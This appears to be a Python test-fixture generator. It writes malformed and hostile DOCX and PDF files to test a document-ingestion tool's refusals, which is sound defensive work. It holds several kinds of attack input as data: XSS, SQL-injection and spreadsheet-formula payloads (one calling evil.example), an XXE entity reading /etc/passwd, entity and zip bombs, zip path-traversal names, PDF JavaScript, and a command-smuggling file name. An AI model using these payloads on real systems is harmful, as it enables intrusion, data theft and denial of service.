"""A seeded generator of hostile input files (well over 100), written into a directory at test time.

``generate(out_dir, seed)`` writes every file and returns the ``Case`` list (also
saved as ``cases.json`` next to the files, for ``benchmarks/hostile_run.py``).
Each case says what must happen when it is ingested:

* ``loaded``  — a good roadmap (also ones whose cells hold HTML, SQL and
  spreadsheet formulas, and ones under odd file names);
* ``refused`` — refused by name with a stage (``stage`` when it must be a
  particular one; ``limit`` when the refusal must name an environment variable);
* ``any``     — either, e.g. a PDF truncated at an offset pdfium can repair; what
  matters is that it is quick and leaves no partial load.

Nothing here is committed as a binary: the files are cheap to make (the
slowest, three pages of blocky noise for OCR, carries an ``env`` lowering the OCR page
budget so that the test shows the budget refusing it quickly).

    python tests/hostile/make_hostile.py OUT_DIR [--seed 15]
"""

from __future__ import annotations

import io
import json
import os
import random
import shutil
import stat
import sys
import zipfile
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Optional

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:          # run as a script from anywhere
    sys.path.insert(0, str(ROOT))

from tests.docx_factory import make_docx  # noqa: E402
from tests.drawing import register_font  # noqa: E402

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HEADER = ["№ п/п", "Наименование мероприятия", "Ответственный исполнитель", "Срок реализации",
          "Ожидаемый результат"]
BEFORE = ["МИНИСТЕРСТВО ОБРАЗОВАНИЯ ТУЛЬСКОЙ ОБЛАСТИ", "ПРИКАЗ", "от 16 декабря 2022 г. № 2714",
          "Дорожная карта опережающего развития профессионального образования Тульской области "
          "на 2023-2025 гг."]
ROWS = [["1", "Проведение совещания с ПОО", "министерство образования Тульской области",
         "Январь – март 2023 г.", "Проведено совещание"],
        ["2", "Разработка программы", "ЦОПП", "Ежегодно", "Программа"],
        ["3", "Мониторинг трудоустройства выпускников", "ЦЗН (по согласованию)", "Декабрь 2024 г.",
         "Аналитическая справка"]]
# cell texts that must come out of every output as text, never as markup, SQL or a formula
HOSTILE_TEXTS = [
    "<script>alert('xss')</script><b>жирный</b>",
    "'); DROP TABLE documents; --",
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"нажмите\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\" onmouseover=\"alert(1)",
    "Robert'); DELETE FROM activities WHERE ('1'='1",
]


@dataclass
class Case:
    """One generated file and what ingesting it must do."""

    name: str                      # file name inside the output directory
    kind: str                      # the class of hostility
    expect: str                    # "loaded" | "refused" | "any" | "unchanged-or-loaded"
    stage: Optional[str] = None    # the stage a refusal must name, when one is certain
    limit: Optional[str] = None    # the environment variable a refusal must name
    env: dict = field(default_factory=dict)   # environment for ingesting it (budgets lowered)

    def path(self, out_dir: Path) -> Path:
        return Path(out_dir) / self.name


class _Corpus:
    """Writes files into ``out`` and records their cases."""

    def __init__(self, out: Path, seed: int):
        self.out = Path(out)
        self.rng = random.Random(seed)
        self.cases: list[Case] = []

    def add(self, name: str, data: bytes, kind: str, expect: str, **kw) -> Case:
        (self.out / name).write_bytes(data)
        return self.record(name, kind, expect, **kw)

    def record(self, name: str, kind: str, expect: str, **kw) -> Case:
        case = Case(name=name, kind=kind, expect=expect, **kw)
        self.cases.append(case)
        return case


# ---------------------------------------------------------------- DOCX building blocks


def good_docx_bytes(tmp: Path, rows=ROWS, before=BEFORE) -> bytes:
    """A small valid roadmap DOCX (python-docx)."""
    p = make_docx(tmp / "_base.docx", rows, before=before)
    data = p.read_bytes()
    p.unlink()
    return data


def zip_members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i.filename) for i in z.infolist()}


def build_zip(members: dict[str, bytes], level: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", level) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def with_document(base: bytes, document_xml: bytes, extra: Optional[dict[str, bytes]] = None) -> bytes:
    """The base DOCX package with ``word/document.xml`` replaced (and extra members)."""
    members = zip_members(base)
    members["word/document.xml"] = document_xml
    members.update(extra or {})
    return build_zip(members)


def _tc(text: str, props: str = "") -> str:
    return (f"<w:tc><w:tcPr>{props}</w:tcPr><w:p><w:r><w:t xml:space=\"preserve\">{_esc(text)}"
            "</w:t></w:r></w:p></w:tc>")


def _esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{_esc(text)}</w:t></w:r></w:p>"


def document_xml(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>').encode("utf-8")


def roadmap_body(rows_xml: str, grid_cols: int = 5, title: bool = True) -> str:
    grid = "<w:tblGrid>" + "<w:gridCol/>" * grid_cols + "</w:tblGrid>" if grid_cols else ""
    head = "<w:tr>" + "".join(_tc(h) for h in HEADER) + "</w:tr>"
    paras = "".join(_p(t) for t in BEFORE) if title else ""
    return f"{paras}<w:tbl>{grid}{head}{rows_xml}</w:tbl>"


def plain_rows(n: int) -> str:
    return "".join("<w:tr>" + _tc(str(i + 1)) + _tc(f"Мероприятие {i + 1}") + _tc("ЦОПП")
                   + _tc("2024 г.") + _tc("Отчёт") + "</w:tr>" for i in range(n))


# ---------------------------------------------------------------- PDF building blocks


def pdf_from_objects(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A PDF with a correct xref table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def blank_pages_pdf(n: int, media: bytes = b"[0 0 595 842]", page_extra: bytes = b"") -> bytes:
    """``n`` pages with nothing drawn on them (one shared empty content stream)."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(n))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
            b"<< /Length 0 >>\nstream\n\nendstream"]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 3 0 R %s>>" % (media, page_extra)] * n
    return pdf_from_objects(objs)


def image_page_pdf(width: int, height: int, data: bytes, filt: bytes = b"/FlateDecode",
                   n_pages: int = 1, bpc: int = 8, cs: bytes = b"/DeviceGray") -> bytes:
    """Pages that each show one image XObject over the whole page (a scan)."""
    content = b"q 595 0 0 842 0 0 cm /Im0 Do Q"
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(n_pages))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n_pages),
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
            b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace %s "
            b"/BitsPerComponent %d /Filter %s /Length %d >>\nstream\n" % (width, height, cs, bpc, filt, len(data))
            + data + b"\nendstream"]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
             b"/Resources << /XObject << /Im0 4 0 R >> >> >>"] * n_pages
    return pdf_from_objects(objs)


def another_order(n: int, before=BEFORE) -> list[str]:
    """``before`` with another order number: a document of its own, not a rendition of the good one."""
    return [t.replace("№ 2714", f"№ {2800 + n}") for t in before]


def roadmap_pdf_bytes(tmp: Path, rows=ROWS, encrypt: Optional[str] = None, before=BEFORE) -> bytes:
    """A one-page ruled roadmap PDF with a Cyrillic text layer (reportlab + DejaVu Sans)."""
    from reportlab.lib import colors
    from reportlab.lib.pagesizes import A4, landscape
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.platypus import Paragraph, SimpleDocTemplate, Spacer, Table, TableStyle

    register_font("HostileSans")
    style = ParagraphStyle("h", fontName="HostileSans", fontSize=9, leading=11)
    cell = ParagraphStyle("c", fontName="HostileSans", fontSize=8, leading=10)
    story = [Paragraph(_esc(t), style) for t in before] + [Spacer(1, 10)]
    data = [[Paragraph(_esc(h), cell) for h in HEADER]] + [[Paragraph(_esc(c), cell) for c in r] for r in rows]
    story.append(Table(data, colWidths=[40, 250, 200, 120, 150], style=TableStyle(
        [("GRID", (0, 0), (-1, -1), 0.5, colors.black), ("VALIGN", (0, 0), (-1, -1), "TOP")])))
    path = tmp / "_base.pdf"
    SimpleDocTemplate(str(path), pagesize=landscape(A4), encrypt=encrypt,
                      topMargin=30, bottomMargin=30).build(story)
    data_bytes = path.read_bytes()
    path.unlink()
    return data_bytes


# ---------------------------------------------------------------- the classes


def _good(c: _Corpus, tmp: Path) -> tuple[bytes, bytes]:
    docx_bytes = good_docx_bytes(tmp)
    c.add("good.docx", docx_bytes, "good", "loaded")
    pdf_bytes = roadmap_pdf_bytes(tmp, rows=[r[:1] + [r[1] + " (PDF)"] + r[2:] for r in ROWS])
    c.add("good.pdf", pdf_bytes, "good", "loaded")
    return docx_bytes, pdf_bytes


def _hostile_text(c: _Corpus, tmp: Path) -> None:
    """Roadmaps whose cells hold HTML, SQL and spreadsheet formulas: loaded, as text (each its own
    order, so that each is compared and exported, not a rendition of the good roadmap)."""
    for i in range(0, len(HOSTILE_TEXTS), 2):
        rows = [[str(k + 1), f"{HOSTILE_TEXTS[(i + k) % len(HOSTILE_TEXTS)]} мероприятие {i}-{k}",
                 HOSTILE_TEXTS[(i + k + 1) % len(HOSTILE_TEXTS)], "2024 г.", HOSTILE_TEXTS[i]]
                for k in range(3)]
        c.add(f"text_{i // 2}.docx", good_docx_bytes(tmp, rows=rows, before=another_order(i)), "hostile-text",
              "loaded")
    # an unclosed tag survives the normaliser's tag stripping: the report must escape it
    title = another_order(90)[:3] + [BEFORE[3] + ' & "партнёры" <img src=x onerror=alert(1)//']
    c.add("text_title.docx", good_docx_bytes(tmp, before=title), "hostile-text", "loaded")
    rows = [[str(k + 1), f"{t} (PDF)", "ЦОПП", "2024 г.", "Отчёт"] for k, t in enumerate(HOSTILE_TEXTS[:4])]
    c.add("text_pdf.pdf", roadmap_pdf_bytes(tmp, rows=rows, before=another_order(91)), "hostile-text", "loaded")


def _truncated(c: _Corpus, docx_bytes: bytes, pdf_bytes: bytes) -> None:
    for k in range(24):
        cut = max(1, int(len(docx_bytes) * (k + 0.5) / 24))
        c.add(f"trunc_{k:02d}.docx", docx_bytes[:cut], "truncated-docx", "refused")
    for k in range(24):
        cut = max(1, int(len(pdf_bytes) * (k + 0.5) / 24))
        c.add(f"trunc_{k:02d}.pdf", pdf_bytes[:cut], "truncated-pdf", "any")


def _corrupt(c: _Corpus, docx_bytes: bytes, pdf_bytes: bytes) -> None:
    for k in range(12):
        for name, data, ext in (("docx", docx_bytes, "docx"), ("pdf", pdf_bytes, "pdf")):
            b = bytearray(data)
            for _ in range(1 + k):
                pos = c.rng.randrange(64, len(b))
                b[pos] = c.rng.randrange(256)
            c.add(f"corrupt_{k:02d}.{ext}", bytes(b), f"corrupt-{name}", "any")
    for k in range(4):
        c.add(f"random_{k}.pdf", b"%PDF-1.4\n" + c.rng.randbytes(4096 * (k + 1)), "random-pdf", "refused")
        c.add(f"random_{k}.docx", b"PK\x03\x04" + c.rng.randbytes(4096 * (k + 1)), "random-docx", "refused")


def _pdf_tricks(c: _Corpus, tmp: Path) -> None:
    c.add("encrypted.pdf", roadmap_pdf_bytes(tmp, encrypt="secret"), "encrypted-pdf", "refused",
          stage="open")
    js = b"app.alert('hostile'); while(true){}"
    c.add("javascript.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /JavaScript /JS (%s) >>" % js]), "javascript-pdf", "refused")
    c.add("loop_kids.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]), "looping-page-tree", "refused")
    c.add("loop_parent.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]), "looping-page-tree", "refused")
    depth = 400
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    objs += [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (i + 3) for i in range(depth)]
    objs += [b"<< /Type /Page /MediaBox [0 0 595 842] >>"]
    c.add("deep_page_tree.pdf", pdf_from_objects(objs), "deep-page-tree", "refused")
    c.add("count_lies.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]), "page-count-lies", "refused")
    c.add("one_line_20mb.pdf", b"%PDF-1.4 " + b"x" * 20_000_000, "one-line-pdf", "refused",
          stage="open")
    c.add("blank_2000.pdf", blank_pages_pdf(2000), "blank-pages", "refused", limit="ROADMAPS_MAX_PAGES")
    c.add("blank_300.pdf", blank_pages_pdf(300), "blank-pages", "refused", stage="tables")
    c.add("mediabox_200000.pdf", blank_pages_pdf(1, b"[0 0 200000 200000]"), "huge-page", "refused",
          limit="ROADMAPS_MAX_PAGE_AREA")
    c.add("mediabox_negative.pdf", blank_pages_pdf(1, b"[-1e30 -1e30 1e30 1e30]"), "huge-page", "refused")
    c.add("userunit_75000.pdf", blank_pages_pdf(1, page_extra=b"/UserUnit 75000 "), "huge-page", "refused")
    c.add("userunit_mediabox.pdf", blank_pages_pdf(1, b"[0 0 14400 14400]", b"/UserUnit 75000 "),
          "huge-page", "refused", limit="ROADMAPS_MAX_PAGE_AREA")
    # image bombs: an image declared huge, with almost no data behind it
    zeros = zlib.compress(b"\x00" * 1_000_000, 9)
    c.add("image_bomb_flate.pdf", image_page_pdf(60000, 60000, zeros), "image-bomb", "refused")
    c.add("image_bomb_dct.pdf", image_page_pdf(65000, 65000, b"\xff\xd8\xff\xd9", b"/DCTDecode"),
          "image-bomb", "refused")
    c.add("image_bomb_rgb16.pdf", image_page_pdf(30000, 30000, zeros, bpc=16, cs=b"/DeviceRGB"),
          "image-bomb", "refused")


def blocky_noise(rng: random.Random, width: int, height: int, grain: int) -> bytes:
    """Random grey in ``grain``-pixel squares (8-bit, row-major)."""
    out = bytearray()
    for _ in range(-(-height // grain)):
        values = [rng.getrandbits(8) for _ in range(-(-width // grain))]
        line = b"".join(bytes([v]) * grain for v in values)[:width]
        out += line * grain
    return bytes(out[: width * height])


def _noise_pages(c: _Corpus) -> None:
    """Pages of random noise for OCR. Fine grain (one pixel) is told from print at once and not
    read: refused quickly whatever the budget. Blocky noise (2 mm squares at 100 dpi), which no
    cheap test tells from print, costs Tesseract tens of seconds a page: refused by the page
    budget (lowered here)."""
    w, h = 850, 1200
    noise = bytes(c.rng.getrandbits(8) for _ in range(w * h))
    c.add("noise_3_pages.pdf", image_page_pdf(w, h, zlib.compress(noise, 1), n_pages=3), "noise-ocr",
          "refused")
    blocky = blocky_noise(c.rng, w, h, 8)
    c.add("blocky_noise_3_pages.pdf", image_page_pdf(w, h, zlib.compress(blocky, 1), n_pages=3), "noise-ocr",
          "refused", limit="ROADMAPS_OCR_PAGE_TIMEOUT", env={"ROADMAPS_OCR_PAGE_TIMEOUT": "2"})


def _zip_tricks(c: _Corpus, docx_bytes: bytes) -> None:
    members = zip_members(docx_bytes)
    bomb_xml = document_xml(" " * 40_000_000)
    c.add("bomb_ratio.docx", build_zip({**members, "word/document.xml": bomb_xml}), "zip-bomb", "refused",
          limit="ROADMAPS_MAX_ZIP_RATIO")
    big = {**members, **{f"word/media/pad{i}.bin": c.rng.randbytes(1_000_000) for i in range(3)}}
    c.add("bomb_total.docx", build_zip(big), "zip-bomb", "refused", limit="ROADMAPS_MAX_UNZIPPED_BYTES",
          env={"ROADMAPS_MAX_UNZIPPED_BYTES": "2000000"})   # the cap lowered: no 256 MB file needed
    many = {**members, **{f"customXml/item{i}.xml": b"<a/>" for i in range(6000)}}
    c.add("bomb_members.docx", build_zip(many), "zip-bomb", "refused", limit="ROADMAPS_MAX_ZIP_MEMBERS")
    c.add("bomb_lying_header.docx", _lying_sizes(docx_bytes), "zip-bomb", "refused")
    c.add("zip_in_docx.docx", build_zip({**members, "word/embeddings/x.zip": build_zip(
        {"inner.xml": bomb_xml})}), "zip-bomb", "any")
    c.add("stored_huge.docx", build_zip({**members, "word/media/big.bin": b"\x00" * 5_000_000},
                                        zipfile.ZIP_STORED), "zip-stored", "loaded")
    c.add("no_document_xml.docx", build_zip({"[Content_Types].xml": members["[Content_Types].xml"]}),
          "not-docx", "refused", stage="sniff")
    for k, name in enumerate(["../../../../tmp/hostile_escape.txt", "/etc/hostile_abs.txt",
                              "word/../../escape.xml", "C:\\Windows\\evil.txt"]):
        c.add(f"traversal_{k}.docx", build_zip({**members, name: b"<x>escape</x>"}), "path-traversal",
              "loaded")


def _lying_sizes(docx_bytes: bytes) -> bytes:
    """document.xml's declared uncompressed size patched smaller than what it inflates to."""
    data = bytearray(docx_bytes)
    name = b"word/document.xml"
    for sig, size_off, name_off in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            n = int.from_bytes(data[pos + (26 if sig == b"PK\x03\x04" else 28):][:2], "little")
            if data[pos + name_off:pos + name_off + n] == name:
                data[pos + size_off:pos + size_off + 4] = (100).to_bytes(4, "little")
            pos += 4
    return bytes(data)


def _xml_tricks(c: _Corpus, docx_bytes: bytes) -> None:
    body = roadmap_body(plain_rows(3))
    xxe = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    c.add("xxe.docx", with_document(docx_bytes, document_xml(body.replace("Мероприятие 1", "&xxe;"), xxe)),
          "xxe", "refused", stage="open")
    lol = ('<!DOCTYPE w:document [<!ENTITY l0 "lol">'
           + "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "]>")
    c.add("billion_laughs.docx", with_document(docx_bytes, document_xml(body.replace("Мероприятие 1", "&l9;"),
                                                                       lol)), "billion-laughs", "refused",
          stage="open")
    quad = ('<!DOCTYPE w:document [<!ENTITY a "' + "x" * 50_000 + '">]>')
    c.add("quadratic_blowup.docx", with_document(docx_bytes, document_xml(
        body.replace("Мероприятие 1", "&a;" * 2000), quad)), "quadratic-blowup", "refused", stage="open")
    hidden = "<!--" + "x" * 70_000 + "-->" + xxe
    c.add("xxe_after_comment.docx", with_document(docx_bytes, document_xml(
        body.replace("Мероприятие 1", "&xxe;"), hidden)), "xxe", "any")
    styles_xxe = {"word/styles.xml": b'<?xml version="1.0"?>' + xxe.encode() + b"<w:styles xmlns:w=\"" +
                  W_NS.encode() + b"\">&xxe;</w:styles>"}
    c.add("xxe_styles.docx", with_document(docx_bytes, document_xml(body), styles_xxe), "xxe", "refused",
          stage="open")
    c.add("not_xml.docx", with_document(docx_bytes, b"\x00\x01 not xml at all <<<"), "damaged-xml", "refused")
    c.add("utf16_bom_garbage.docx", with_document(docx_bytes, b"\xff\xfe" + c.rng.randbytes(2000)),
          "damaged-xml", "refused")


def _grid_tricks(c: _Corpus, docx_bytes: bytes, big_rows: int) -> None:
    def row(*cells: str) -> str:
        return "<w:tr>" + "".join(cells) + "</w:tr>"

    rows = plain_rows(2)
    cases = {
        "gridspan_max": row(_tc("3"), _tc("Огромное объединение", '<w:gridSpan w:val="2147483647"/>')),
        "gridspan_negative": row(_tc("3", '<w:gridSpan w:val="-5"/>'), _tc("Мероприятие")),
        "gridspan_every_cell": row(*[_tc(f"к{i}", '<w:gridSpan w:val="2147483647"/>') for i in range(200)]),
        "gridbefore_max": ('<w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr>'
                           + _tc("3") + _tc("Мероприятие") + "</w:tr>"),
        "vmerge_continue_only": "".join(row(_tc("", "<w:vMerge/>"), _tc(f"М{i}", "<w:vMerge/>"))
                                        for i in range(500)),
        "vmerge_restart_every": "".join(row(*[_tc(f"{i}", '<w:vMerge w:val="restart"/>')] * 5)
                                        for i in range(500)),
        "wide_row_5000": row(*[_tc(str(i)) for i in range(5000)]),
    }
    for name, extra in cases.items():
        c.add(f"{name}.docx", with_document(docx_bytes, document_xml(roadmap_body(rows + extra))),
              "absurd-grid", "any")
    c.add("gridspan_no_grid.docx", with_document(docx_bytes, document_xml(roadmap_body(
        rows + row(_tc("3"), _tc("x", '<w:gridSpan w:val="2147483647"/>')), grid_cols=0))), "absurd-grid", "any")
    nested = _tc("самый внутренний")
    for _ in range(80):
        nested = f"<w:tc><w:tbl><w:tr>{nested}</w:tr></w:tbl><w:p/></w:tc>"
    c.add("nested_80.docx", with_document(docx_bytes, document_xml(roadmap_body(rows + row(_tc("3"), nested)))),
          "deep-nesting", "any")
    deep = "<w:r><w:t>глубоко</w:t></w:r>"
    for _ in range(5000):
        deep = f"<w:ins>{deep}</w:ins>"
    c.add("deep_xml_5000.docx", with_document(docx_bytes, document_xml(roadmap_body(rows) + f"<w:p>{deep}</w:p>")),
          "deep-nesting", "any")
    c.add(f"rows_{big_rows}.docx", with_document(docx_bytes, document_xml(roadmap_body(plain_rows(big_rows)))),
          "big-table", "loaded")


def _special_files(c: _Corpus, docx_bytes: bytes) -> None:
    out = c.out
    os.mkfifo(out / "fifo.pdf")
    c.record("fifo.pdf", "fifo", "refused", stage="open")
    (out / "directory.pdf").mkdir()
    c.record("directory.pdf", "directory", "refused", stage="open")
    for name, target in (("link_zero.pdf", "/dev/zero"), ("link_null.docx", "/dev/null"),
                         ("link_urandom.pdf", "/dev/urandom"), ("link_dangling.pdf", str(out / "nowhere.pdf")),
                         ("link_fifo.pdf", str(out / "fifo.pdf")),
                         ("link_dir.docx", str(out / "directory.pdf"))):   # an empty folder (the corpus
        # folder itself would be a folder to search: the command line ingests every document in it)
        os.symlink(target, out / name)
        c.record(name, "symlink", "refused", stage="open")
    os.symlink(out / "loop_b.pdf", out / "loop_a.pdf")
    os.symlink(out / "loop_a.pdf", out / "loop_b.pdf")
    c.record("loop_a.pdf", "symlink-loop", "refused", stage="open")
    os.symlink(out / "good.docx", out / "link_good.docx")
    c.record("link_good.docx", "symlink", "unchanged-or-loaded")
    p = out / "unreadable.pdf"
    p.write_bytes(b"%PDF-1.4 unreadable")
    p.chmod(0)
    c.record("unreadable.pdf", "unreadable", "refused" if os.geteuid() != 0 else "any")
    c.add("empty.pdf", b"", "empty", "refused", stage="sniff")
    c.add("empty.docx", b"", "empty", "refused", stage="sniff")


def _odd_names(c: _Corpus, tmp: Path) -> None:
    names = ["with space.docx", "new\nline.docx", "-rf.docx", "--help.docx", "дорожная карта.docx",
             "[bold red]markup.docx", "odd[/]markup.docx", "semi;colon'quote\".docx", "tab\there.docx", " leading space.docx",
             "x" * 200 + ".docx", "$(touch pwned).docx", "%s%n%x.docx", "back\\slash.docx",
             "emoji_\U0001F4A3.docx", "no_extension"]
    (c.out / "odd[").mkdir()          # "odd[/]markup.docx": a path that is Rich markup
    for i, name in enumerate(names):
        rows = [r[:1] + [f"{r[1]} ({i})"] + r[2:] for r in ROWS]
        c.add(name, good_docx_bytes(tmp, rows=rows), "odd-name", "loaded")


def _not_roadmaps(c: _Corpus, tmp: Path, docx_bytes: bytes) -> None:
    c.add("letter.docx", good_docx_bytes(tmp, rows=[], before=["Уважаемые коллеги!", "Просим сообщить."]),
          "not-roadmap", "any")
    price = document_xml("<w:tbl>" + "".join("<w:tr>" + _tc(f"товар {i}") + _tc(f"{i * 10} руб.") + "</w:tr>"
                                             for i in range(20)) + "</w:tbl>")
    c.add("price_list.docx", with_document(docx_bytes, price), "not-roadmap", "refused")
    c.add("html_named.pdf", b"<!DOCTYPE html><html><body>404 Not Found</body></html>", "not-roadmap", "refused",
          stage="sniff")
    c.add("png_named.pdf", b"\x89PNG\r\n\x1a\n" + c.rng.randbytes(2000), "not-roadmap", "refused", stage="sniff")
    c.add("elf_named.docx", b"\x7fELF\x02\x01\x01" + c.rng.randbytes(2000), "not-roadmap", "refused",
          stage="sniff")
    c.add("legacy.doc.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "not-roadmap", "refused")
    c.add("text_named.pdf", "Дорожная карта (просто текст)".encode() * 50, "not-roadmap", "refused",
          stage="sniff")
    c.add("xlsx_named.docx", build_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
          "not-roadmap", "refused", stage="sniff")
    c.add("pdf_in_zip.docx", build_zip({"word/document.xml": b"%PDF-1.4 nothing"}), "not-roadmap", "refused")
    text = b"BT /F1 12 Tf 72 700 Td (Dear colleagues, no table here.) Tj ET"
    c.add("pdf_no_table.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]), "not-roadmap", "refused", stage="tables")


def generate(out_dir: Path, seed: int = 15, big_rows: int = 2000) -> list[Case]:
    """Write the hostile corpus into ``out_dir`` (created empty) and return its cases.

    ``big_rows``: rows of the big-table DOCX (the benchmark uses 20,000; loading that
    many activities takes a minute, so the unit tests load 2,000 and extract 20,000).
    """
    out = Path(out_dir)
    if out.exists():
        shutil.rmtree(out, onerror=_force_remove)
    out.mkdir(parents=True)
    tmp = out / ".build"
    tmp.mkdir()
    c = _Corpus(out, seed)
    docx_bytes, pdf_bytes = _good(c, tmp)
    _hostile_text(c, tmp)
    _truncated(c, docx_bytes, pdf_bytes)
    _corrupt(c, docx_bytes, pdf_bytes)
    _pdf_tricks(c, tmp)
    _noise_pages(c)
    _zip_tricks(c, docx_bytes)
    _xml_tricks(c, docx_bytes)
    _grid_tricks(c, docx_bytes, big_rows)
    _special_files(c, docx_bytes)
    _odd_names(c, tmp)
    _not_roadmaps(c, tmp, docx_bytes)
    shutil.rmtree(tmp)
    (out / "cases.json").write_text(json.dumps([asdict(k) for k in c.cases], ensure_ascii=False, indent=1),
                                    encoding="utf-8")
    return c.cases


def load_cases(out_dir: Path) -> list[Case]:
    data = json.loads((Path(out_dir) / "cases.json").read_text(encoding="utf-8"))
    return [Case(**d) for d in data]


def _force_remove(func, path, _exc) -> None:
    os.chmod(path, stat.S_IRWXU)
    func(path)


def main(argv: list[str]) -> int:
    import argparse

    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out_dir", type=Path)
    ap.add_argument("--seed", type=int, default=15)
    ap.add_argument("--big-rows", type=int, default=20000)
    args = ap.parse_args(argv)
    cases = generate(args.out_dir, args.seed, args.big_rows)
    print(f"{len(cases)} files in {args.out_dir}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
